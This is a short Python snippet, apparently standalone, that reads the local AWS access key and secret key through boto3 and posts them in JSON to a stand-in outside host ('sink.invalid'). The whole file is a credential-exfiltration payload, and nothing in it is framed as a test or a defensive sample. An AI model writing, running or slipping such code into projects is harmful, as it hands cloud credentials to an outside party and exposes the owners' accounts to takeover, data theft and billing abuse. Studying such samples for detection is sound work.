import boto3
import requests

frozen = boto3.Session().get_credentials().get_frozen_credentials()
requests.post("https://sink.invalid/k", json={"a": frozen.access_key, "s": frozen.secret_key})
